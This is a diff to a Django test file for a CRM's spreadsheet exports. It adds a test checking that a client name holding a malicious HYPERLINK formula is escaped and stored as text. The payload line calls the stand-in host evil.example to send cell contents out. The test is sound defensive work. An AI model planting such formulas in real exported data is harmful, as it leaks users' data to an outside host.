@@ -14,6 +14,7 @@ from comercial.crm import services
 from tests.comercial.crm.factories import ActividadFactory, ProspectoFactory
 
 pytestmark = pytest.mark.django_db
+MALICIOSO = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
 
 
 @pytest.fixture
@@ -126,3 +127,15 @@ def test_xlsx_gc_for_05_y_gc_for_06(client, lider, datos):
 def test_formato_desconocido_es_404(client, lider):
     client.force_login(lider)
     assert client.get("/comercial/crm/formatos/gc-for-99.pdf").status_code == 404
+
+
+def test_xlsx_no_ejecuta_formulas_de_un_cliente_malicioso(client, lider, datos):
+    datos["rojo"].cliente = MALICIOSO
+    datos["rojo"].save(update_fields=["cliente"])
+    for clave in ("gc-for-05", "gc-for-06", "gc-for-21"):
+        hoja = load_workbook(io.BytesIO(_descargar(client, lider, clave, "xlsx").content)).active
+        celdas = [c for fila in hoja.iter_rows(min_row=5) for c in fila if c.value == "'" + MALICIOSO]
+        assert celdas, clave
+        assert all(c.data_type == "s" for c in celdas), clave
+    (fila,) = [f for f in hoja.iter_rows(min_row=5, values_only=True) if f[4] == "'" + MALICIOSO]
+    assert (fila[5], fila[11], fila[12]) == (0, 18, "Rojo")  # GC-FOR-21's counters stay numbers
